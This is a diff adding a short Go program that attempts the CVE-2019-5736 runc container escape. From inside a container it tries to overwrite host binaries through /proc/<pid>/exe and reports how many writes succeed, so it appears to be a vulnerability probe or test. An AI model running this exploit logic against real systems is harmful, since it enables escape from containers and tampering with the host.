@@ -1,0 +1,68 @@
+// Command exewatch runs inside a container and attacks CVE-2019-5736: it
+// watches /proc for processes entering the container and tries to write
+// to the binary behind their /proc/<pid>/exe. It prints what it saw and
+// how many writes succeeded, then exits after -seconds.
+package main
+
+import (
+	"flag"
+	"fmt"
+	"golang.org/x/sys/unix"
+	"os"
+	"strconv"
+	"strings"
+	"time"
+)
+
+func main() {
+	seconds := flag.Float64("seconds", 3, "how long to watch")
+	ready := flag.String("ready", "", "file to create once watching")
+	flag.Parse()
+	self := os.Getpid()
+	seen := map[string]int{}
+	known := map[int]string{} // pid -> exe target last seen
+	writes, fds := 0, []int{}
+	if *ready != "" {
+		os.WriteFile(*ready, nil, 0o644)
+	}
+	deadline := time.Now().Add(time.Duration(*seconds * float64(time.Second)))
+	for time.Now().Before(deadline) {
+		ents, _ := os.ReadDir("/proc")
+		for _, e := range ents {
+			pid, err := strconv.Atoi(e.Name())
+			if err != nil || pid == self || pid == 1 {
+				continue
+			}
+			exe := "/proc/" + e.Name() + "/exe"
+			target, err := os.Readlink(exe)
+			if err != nil || strings.HasSuffix(target, "/exewatch") || known[pid] == target {
+				continue
+			}
+			known[pid] = target
+			seen[target]++
+			// Keep a handle: the classic attack reopens it for writing
+			// once the runtime has exec'd away from its binary.
+			if fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
+				fds = append(fds, fd)
+			}
+			if f, err := os.OpenFile(exe, os.O_WRONLY, 0); err == nil {
+				if _, err := f.Write([]byte("#!/bin/sh\necho pwned\n")); err == nil {
+					writes++
+				}
+				f.Close()
+			}
+		}
+		for _, fd := range fds {
+			if f, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(fd), os.O_WRONLY, 0); err == nil {
+				if _, err := f.Write([]byte("x")); err == nil {
+					writes++
+				}
+				f.Close()
+			}
+		}
+	}
+	for t, n := range seen {
+		fmt.Printf("seen %s %d\n", t, n)
+	}
+	fmt.Printf("writes %d\n", writes)
+}
